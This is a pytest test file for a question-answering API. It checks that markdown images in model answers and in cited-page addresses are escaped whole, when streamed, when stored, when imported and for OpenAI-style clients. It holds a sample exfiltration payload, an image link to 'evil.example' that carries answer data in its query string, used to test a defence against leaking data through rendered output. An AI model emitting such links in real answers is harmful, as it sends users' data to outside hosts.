"""No response makes a client that shows it load an address that a model or a document wrote."""

import json
from datetime import UTC, datetime

import pytest

from api.openai.openai_answers import completion_of
from domain import LOCAL_USER, Citation, CitationState, Turn, TurnState
from services.events import TurnFinished
from storage.ledger.ledger_tables import TurnRow
from tests.api.serving import events_of
from tests.api.test_ask import ASK, LEAVE, stream_answer
from tests.fakes.openai import Text

CHAT = "/v1/chat/completions"
LEAK = "![leave](https://evil.example/?days=25)"
SAFE = "![leave]\\(https://evil.example/?days=25)"
CITED = ' Employees get 25 days [1: "25 days of annual leave"].'
NOW = datetime(2026, 11, 26, tzinfo=UTC)
QUESTION = {"model": "footnote", "messages": [{"role": "user", "content": LEAVE["question"]}]}


@pytest.fixture
def client(build_client, model_server):
    """A client of an API whose model writes an image, letter by letter."""
    model_server.will(*[Text(*f"{LEAK}{CITED}")] * 2)
    return build_client(chat=True)


def test_an_image_of_the_model_is_escaped_whole_streamed_and_stored(client):
    whole = client.post(ASK, json=LEAVE).json()
    assert whole["answer"] == f"{SAFE} Employees get 25 days [1]."
    assert whole["citations"][0]["state"] == "verified"
    events = stream_answer(client, **LEAVE)
    texts = [data["text"] for name, data in events if name == "token"]
    assert "".join(texts) == whole["answer"]
    stored = client.get(f"/api/v1/conversations/{whole['conversation_id']}").json()
    assert stored["turns"][0]["answer"] == whole["answer"]


def test_an_image_of_the_model_is_escaped_for_openai_clients(client):
    [choice] = client.post(CHAT, json=QUESTION).json()["choices"]
    assert choice["message"]["content"].startswith(f"{SAFE} Employees get 25 days [1].")
    chunks = client.post(CHAT, json=QUESTION | {"stream": True}).text.splitlines()
    data = [text for _name, text in events_of(chunks) if text != "[DONE]"]
    deltas = [json.loads(text)["choices"][0]["delta"] for text in data]
    assert "".join(one.get("content") or "" for one in deltas) == choice["message"]["content"]


def test_an_image_in_an_answer_of_an_earlier_version_is_escaped(build_client):
    client = build_client()
    turn = client.post(ASK, json=LEAVE).json()
    path = f"/api/v1/conversations/{turn['conversation_id']}"
    file = json.loads(client.get(f"{path}/export?format=json").content)
    with client.services.parts.database.write() as session:
        session.get(TurnRow, turn["id"]).answer = LEAK
    assert client.get(path).json()["turns"][0]["answer"] == SAFE
    file["turns"][0]["answer"] = LEAK
    upload = {"file": ("talk.json", json.dumps(file))}
    copy = client.post("/api/v1/conversations/import", files=upload).json()
    [stored] = client.services.turns.list(LOCAL_USER, copy["id"])
    assert stored.answer == SAFE


def test_the_address_of_a_cited_page_is_not_read_as_markdown():
    citation = Citation(
        1, CitationState.VERIFIED, "25 days", "Leave", "https://wiki/![x](https://evil.example/x)"
    )
    turn = Turn("t", "c", "?", TurnState.COMPLETE, NOW, answer="25 [1].", citations=(citation,))
    [choice] = completion_of(TurnFinished(turn), "id", "footnote").choices
    assert choice.message.content.endswith("https://wiki/!%5Bx%5D(https://evil.example/x)")
